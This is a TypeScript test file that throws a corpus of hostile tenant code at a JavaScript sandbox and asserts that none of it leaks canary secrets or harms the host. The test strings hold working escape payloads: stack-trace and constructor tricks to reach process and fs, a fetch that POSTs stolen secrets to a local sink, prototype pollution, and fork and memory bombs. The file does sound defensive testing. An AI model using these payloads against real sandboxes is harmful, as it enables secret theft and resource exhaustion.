/**
 * The escape corpus: what a hostile tenant would try from a code step, run against the real
 * component, the real sandbox processes and the real hub-side fetch.
 *
 * The hub (this test process) holds a canary environment variable and a canary file any local
 * user could read. No attempt may bring either into an output, an error, a log line or a request
 * to the sink (an HTTP server every attempt may call, as real code could), nor change the hub,
 * nor leave anything a later run — of this tenant or another — can see.
 */
import { randomUUID } from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createLogger } from '../../platform/logger.js';
import { createOutbound } from '../../platform/outbound/index.js';
import { createCodeComponent } from './builtins/code.js';
import { StepError, type StepResult } from './components.descriptor.js';
import { SandboxPool } from './components.sandbox.js';
import { bodies, runOnce } from './components.testing.js';

const CANARY_ENV = `canary-env-${randomUUID()}`;
const CANARY_FILE_TEXT = `canary-file-${randomUUID()}`;
const canaryDir = fs.mkdtempSync(path.join(os.tmpdir(), 'plexus-canary-'));
const CANARY_FILE = path.join(canaryDir, 'secret.txt');

/** Every line any logger of this test wrote: the hub's sandbox log and each step's log. */
const logLines: string[] = [];
const logger = createLogger('debug', { write: (line: string) => logLines.push(line) } as unknown as NodeJS.WritableStream);
const sinkRequests: string[] = [];
let sinkUrl = '';
let sink: http.Server;

// CPU capped at 2 s: the floods below end at a limit either way, and other test files share the cores.
const pool = new SandboxPool({ size: 2, memoryMb: 64, cpuTimeMs: 2_000, slotsFor: () => 1, logger });
// The sink is on loopback: this policy lets code reach it, as real code could reach its own APIs.
const step = createCodeComponent({ sandbox: pool, outbound: createOutbound({ allowPrivateNetwork: true, allowedHosts: [] }) }).fn('run');

beforeAll(async () => {
  process.env.PLEXUS_CANARY = CANARY_ENV;
  fs.chmodSync(canaryDir, 0o755);
  fs.writeFileSync(CANARY_FILE, CANARY_FILE_TEXT, { mode: 0o644 });
  sink = http.createServer((req, res) => {
    let body = '';
    req.on('data', (c: Buffer) => (body += c.toString()));
    req.on('end', () => {
      sinkRequests.push(`${req.method} ${req.url} ${JSON.stringify(req.headers)} ${body}`);
      const delay = req.url === '/slow' ? 500 : 0;
      setTimeout(() => res.writeHead(200, { 'content-type': 'text/plain' }).end('ok'), delay);
    });
  });
  await new Promise<void>((r) => sink.listen(0, '127.0.0.1', () => r()));
  sinkUrl = `http://127.0.0.1:${(sink.address() as AddressInfo).port}`;
});

afterAll(async () => {
  await pool.close();
  await new Promise((r) => sink.close(r));
  delete process.env.PLEXUS_CANARY;
  fs.rmSync(canaryDir, { recursive: true, force: true });
});

interface Attempt {
  /** The emitted bodies, when the run succeeded. */
  out?: unknown[];
  /** The step's error, when it failed. */
  error?: StepError;
}

/** Runs `code` for `tenant` with the canary's whereabouts and the sink in its body, as an attacker would know them. */
async function attempt(code: string, tenant = 'acme', fields: Record<string, unknown> = {}, body: unknown = undefined): Promise<Attempt> {
  const input = body ?? { sink: sinkUrl, file: CANARY_FILE, envName: 'PLEXUS_CANARY' };
  try {
    const result: StepResult = await runOnce(step, { code, timeoutMs: 10_000, ...fields }, input, { tenant, logger });
    return { out: bodies(result) };
  } catch (err) {
    expect(err).toBeInstanceOf(StepError);
    return { error: err as StepError };
  }
}

function expectNoCanary(...what: unknown[]): void {
  const seen = JSON.stringify([what.map((w) => (w instanceof Error ? `${w.message} ${w.stack}` : w)), logLines, sinkRequests]);
  expect(seen).not.toContain(CANARY_ENV);
  expect(seen).not.toContain(CANARY_FILE_TEXT);
}

/** The hub is unharmed: its own built-ins intact, and a trivial step still runs. */
async function expectHubHealthy(): Promise<void> {
  expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  expect((function (this: unknown, a: number) {
    return a + 1;
  }).call(undefined, 1)).toBe(2);
  expect(JSON.stringify({ a: 1 })).toBe('{"a":1}');
  expect(bodies(await runOnce(step, { code: 'return body.n * 2' }, { n: 21 }, { tenant: 'healthcheck' }))).toEqual([42]);
}

describe('escape corpus', () => {
  it('the Error.prepareStackTrace route: stack frames give nothing but the isolate’s own functions', async () => {
    // The route of the issue: the sandbox's host reads the thrown error's stack, which calls the
    // code's prepareStackTrace; on the node:vm sandbox the frames were the host's, and their
    // Function reached process, fs, and the log lines and fetch the host sent out afterwards.
    const viaThrow = await attempt(`
      Error.prepareStackTrace = (err, frames) => {
        try {
          const F = frames[0].constructor.constructor;
          const p = F('return process')();
          const secret = p.env[body.envName] + ' ' + p.getBuiltinModule('fs').readFileSync(body.file, 'utf8');
          console.log(secret);
          fetch(body.sink + '/leak', { method: 'POST', body: secret });
          F('return fetch')()(body.sink + '/leak', { method: 'POST', body: secret });
          return secret;
        } catch (e) {
          return 'blocked: ' + e.message;
        }
      };
      throw new Error('boom');`);
    expect(viaThrow.error?.message).toMatch(/^code: Error: boom/);
    // Give a request the code may have started time to arrive.
    await new Promise((r) => setTimeout(r, 1_000));
    expectNoCanary(viaThrow);
    const viaOwnRead = await attempt(`
      const found = [];
      Error.prepareStackTrace = (err, frames) => {
        for (const f of frames) {
          for (const get of ['getThis', 'getFunction']) {
            try {
              const v = f[get] && f[get]();
              if (v) found.push(typeof v.constructor.constructor('return typeof process')());
            } catch (e) { found.push('blocked'); }
          }
          try { found.push(typeof f.constructor.constructor('return typeof process')()); } catch (e) { found.push('blocked'); }
        }
        return 'stack';
      };
      new Error('x').stack;
      (() => { try { null.x } catch (e) { e.stack } })();
      return found;`);
    expect(viaOwnRead.out?.[0]).toEqual(expect.arrayContaining(['string']));
    expect(JSON.stringify(viaOwnRead.out)).not.toMatch(/"object"|"function"/);
    const throwing = await attempt(`Error.prepareStackTrace = () => { throw new Error('no stack for you'); }; throw new TypeError('boom');`);
    expect(throwing.error?.message).toBe('code: TypeError: boom');
    expectNoCanary(viaOwnRead, throwing);
    await expectHubHealthy();
  });

  it('this.constructor.constructor and globalThis build functions of the isolate, which has no Node.js', async () => {
    const r = await attempt(`
      const F = this.constructor.constructor;
      const g = F('return this')();
      let env = 'blocked';
      try { env = F('return process')().env[body.envName]; } catch (e) { env = 'blocked: ' + e.name; }
      return [typeof g.process, typeof g.require, globalThis.constructor.constructor('return typeof process')(), env];`);
    expect(r.out).toEqual([['undefined', 'undefined', 'undefined', 'blocked: ReferenceError']]);
    expectNoCanary(r);
  });

  it('arguments.callee.caller climbs to nothing of the host', async () => {
    const r = await attempt(`
      const reached = (function climb() {
        const found = [];
        let f = arguments.callee;
        for (let i = 0; i < 10 && f; i++) {
          try { f = f.caller; } catch (e) { found.push('throws'); break; }
          if (!f) { found.push('null'); break; }
          found.push(f);
        }
        return found;
      })();
      const seen = [];
      for (const f of reached) seen.push(typeof f === 'string' ? f : await f.constructor('return typeof process')());
      return seen;`);
    expect(r.out).toHaveLength(1);
    for (const v of (r.out as string[][])[0]!) expect(['undefined', 'null', 'throws']).toContain(v);
    expectNoCanary(r);
  });

  it('Function.prototype and other built-ins tampered with change nothing outside the run', async () => {
    const r = await attempt(`
      Function.prototype.call = function () { return 'hijacked'; };
      Function.prototype.apply = function () { return 'hijacked'; };
      Function.prototype.bind = function () { return () => 'hijacked'; };
      Reflect.apply = () => 'hijacked';
      JSON.stringify = () => '"hijacked"';
      JSON.parse = () => 'hijacked';
      Array.prototype.push = function () { return 0; };
      Promise.prototype.then = function () { return this; };
      Object.prototype.then = function (resolve) { resolve('spoofed'); };
      String.prototype.slice = function () { return 'hijacked'; };
      emit({ a: 1 });
      emit({ b: 2 });`);
    // The sandbox kept the built-ins it needs before the code ran: the output is what was emitted.
    expect(r.out).toEqual([{ a: 1 }, { b: 2 }]);
    const next = await attempt('return [typeof Function.prototype.call.toString, [1].concat(2).length, JSON.stringify({ a: 1 }), ({}).then]');
    expect(next.out).toEqual([['function', 2, '{"a":1}', null]]);
    expectNoCanary(r, next);
    await expectHubHealthy();
  });

  it('Symbol.species, Proxy and thenable tricks on the values that cross come out as plain JSON or a plain error', async () => {
    const species = await attempt(`
      class Evil extends Array { static get [Symbol.species]() { return function () { return new Proxy({}, { get() { throw new Error('species trap'); } }); }; } }
      const a = Evil.from([1, 2]);
      emit(new Proxy({ x: 1 }, { get(t, k) { return k === 'toJSON' ? () => ({ proxied: true }) : t[k]; } }));
      emit(new Proxy({}, { ownKeys: () => ['y'], getOwnPropertyDescriptor: () => ({ value: 'from trap', enumerable: true, configurable: true }) }));
      emit(a);`);
    expect(species.out).toEqual([{ proxied: true }, {}, [1, 2]]);
    const revoked = await attempt(`const { proxy, revoke } = Proxy.revocable({}, {}); revoke(); return proxy;`);
    expect(revoked.error?.kind).toBe('user');
    const thenable = await attempt(`return { then(resolve) { resolve(typeof process === 'undefined' ? 'no process' : process.env[body.envName]); } };`);
    expect(thenable.out).toEqual(['no process']);
    const promiseSpecies = await attempt(`
      class P extends Promise { static get [Symbol.species]() { return function (exec) { exec(() => {}, () => {}); return { then() {} }; }; } }
      return P.resolve({ done: true });`);
    expect(promiseSpecies.out).toEqual([{ done: true }]);
    const throwingToJson = await attempt(`return { toJSON() { throw new Error('no json for you'); } };`);
    expect(throwingToJson.error?.message).toMatch(/no json for you/);
    const symbolError = await attempt(`throw Symbol('odd');`);
    expect(symbolError.error?.kind).toBe('user');
    const getterError = await attempt(`const e = new Error('x'); Object.defineProperty(e, 'message', { get() { throw new Error('getter'); } }); throw e;`);
    expect(getterError.error?.kind).toBe('user');
    expectNoCanary(species, revoked, thenable, promiseSpecies, throwingToJson, symbolError, getterError);
    await expectHubHealthy();
  });

  it('prototype pollution through the bridged message stays in the run', async () => {
    const hostile = JSON.parse('{"__proto__": {"polluted": "in"}, "constructor": {"prototype": {"polluted": "in"}}}') as unknown;
    const r = await attempt(
      `
      message.__proto__.polluted = 'yes';
      body.constructor.prototype.polluted = 'yes';
      Object.prototype.polluted = 'yes';
      headers.__proto__.polluted = 'yes';
      return JSON.parse('{"__proto__": {"polluted": "out"}, "constructor": {"prototype": {"polluted": "out"}}}');`,
      'acme',
      {},
      hostile,
    );
    const [out] = r.out as Array<Record<string, unknown>>;
    expect(Object.getPrototypeOf(out)).toBe(Object.prototype);
    expect(out!.polluted).toBeUndefined();
    const next = await attempt('return [({}).polluted, Object.getPrototypeOf(body) === Object.prototype, body.polluted]', 'acme', {}, hostile);
    expect(next.out).toEqual([[null, true, null]]);
    await expectHubHealthy();
  });

  it('import() and direct reaches for process, require and fs find nothing', async () => {
    const imported = await attempt(`const fs = await import('node:fs'); return fs.readFileSync(body.file, 'utf8');`);
    expect(imported.error?.kind).toBe('user');
    const importedRel = await attempt(`return (await import(body.file)).default;`);
    expect(importedRel.error?.kind).toBe('user');
    const direct = await attempt(`
      const names = ['process', 'require', 'module', 'exports', '__filename', '__dirname', 'global', 'Buffer', 'setTimeout', 'setImmediate', 'queueMicrotask', 'fs', 'Deno', 'Bun'];
      return names.map((n) => eval('typeof ' + n));`);
    expect(new Set((direct.out as string[][])[0])).toEqual(new Set(['undefined']));
    const fsRead = await attempt(`return require('fs').readFileSync(body.file, 'utf8');`);
    expect(fsRead.error?.message).toMatch(/require is not defined/);
    const env = await attempt(`return process.env[body.envName];`);
    expect(env.error?.message).toMatch(/process is not defined/);
    expectNoCanary(imported, importedRel, direct, fsRead, env);
  });

  it('an infinite loop and a 1 GB allocation are stopped, the hub keeps its memory and goes on', async () => {
    const rssBefore = process.memoryUsage().rss;
    const loop = await attempt('for (;;) {}', 'acme', { timeoutMs: 500 });
    expect(loop.error?.message).toBe('code: time limit exceeded (500 ms)');
    const buffer = await attempt('const b = new ArrayBuffer(1024 ** 3); return b.byteLength;');
    expect(buffer.error?.message).toMatch(/memory limit exceeded|Array buffer allocation failed/);
    const array = await attempt('const a = new Array(2 ** 27).fill(1.5); return a.length;', 'acme', { timeoutMs: 30_000 });
    expect(array.error?.message).toMatch(/memory limit exceeded/);
    const text = await attempt("return 'x'.repeat(2 ** 30).length;");
    expect(text.error?.message).toMatch(/RangeError: Invalid string length|memory limit exceeded/);
    // The gigabyte was refused in the sandbox, not allocated in the hub.
    expect(process.memoryUsage().rss - rssBefore).toBeLessThan(512 * 1024 * 1024);
    expectNoCanary(loop, buffer, array, text);
    await expectHubHealthy();
  });

  it('fork bombs (recursion, promise and microtask floods, fetch floods) end at a limit', async () => {
    const recursion = await attempt('const f = () => f(); f();');
    expect(recursion.error?.message).toMatch(/RangeError: Maximum call stack size exceeded/);
    const asyncBomb = await attempt('const bomb = async () => { bomb(); bomb(); }; await bomb();');
    expect(asyncBomb.error?.message).toMatch(/Maximum call stack size exceeded|limit exceeded/);
    const promises = await attempt('const ps = []; for (;;) ps.push(new Promise(() => {}));', 'acme', { timeoutMs: 30_000 });
    expect(promises.error?.message).toMatch(/memory limit exceeded|CPU time limit exceeded/);
    const microtasks = await attempt('(function f() { Promise.resolve().then(f); Promise.resolve().then(f); })(); await new Promise(() => {});', 'acme', { timeoutMs: 30_000 });
    expect(microtasks.error?.message).toMatch(/memory limit exceeded|CPU time limit exceeded/);
    const before = sinkRequests.length;
    const fetches = await attempt('const r = await Promise.all(Array.from({ length: 5000 }, () => fetch(body.sink + "/flood").then(() => "sent", (e) => e.message))); return r.filter((x) => x === "sent").length;');
    expect(fetches.out).toEqual([50]);
    expect(sinkRequests.length - before).toBe(50);
    expectNoCanary(recursion, asyncBomb, promises, microtasks, fetches);
    await expectHubHealthy();
  });

  it('leaves nothing for the next run: globals, prototypes and pending promises of one tenant are not seen by the next', async () => {
    const planted = await attempt(`
      globalThis.stash = 'A-secret';
      Object.prototype.leak = 'A';
      Array.prototype.map = function () { return ['A-hijacked']; };
      // Resolves after this run ended: it must never run again, here or anywhere.
      fetch(body.sink + '/slow').then(() => { globalThis.late = 'A-late'; Object.prototype.late = 'A-late'; console.log('A-late-log'); fetch(body.sink + '/late'); });
      new Promise(() => {});
      return 'planted';`);
    expect(planted.out).toEqual(['planted']);
    const acmePid = pool.describe().find((r) => r.tenant === 'acme')?.pid;
    const probe = `return [typeof globalThis.stash, ({}).leak, [1].map((x) => x + 1), typeof globalThis.late, ({}).late];`;
    const clean = [['undefined', null, [2], 'undefined', null]];
    const other = await attempt(probe, 'globex');
    expect(other.out).toEqual(clean);
    expect(pool.describe().find((r) => r.tenant === 'globex')?.pid).not.toBe(acmePid);
    // Wait past the slow answer: the late continuation still never runs.
    await new Promise((r) => setTimeout(r, 800));
    expect((await attempt(probe, 'acme')).out).toEqual(clean);
    expect((await attempt(probe, 'globex')).out).toEqual(clean);
    expect(sinkRequests.some((r) => r.startsWith('GET /late'))).toBe(false);
    expect(logLines.some((l) => l.includes('A-late-log'))).toBe(false);
  });
});
